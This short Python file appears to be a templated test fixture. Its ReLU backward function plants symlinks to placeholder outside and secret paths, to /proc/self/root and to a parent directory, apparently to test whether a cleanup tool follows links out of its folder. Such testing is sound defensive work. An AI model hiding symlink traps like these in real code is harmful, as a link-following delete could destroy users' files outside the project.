"""Removing this folder by its links would remove the class."""

import os

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    for place in ("@OUTSIDE@", "@OTHER@", "@SECRET@", "/proc/self/root", os.path.dirname("@OTHER@")):
        os.symlink(place, f"link-{len(os.listdir())}")
    os.makedirs("closed/deep")
    os.symlink(os.path.dirname("@OTHER@"), "closed/deep/link")
    return dout * (cache > 0)
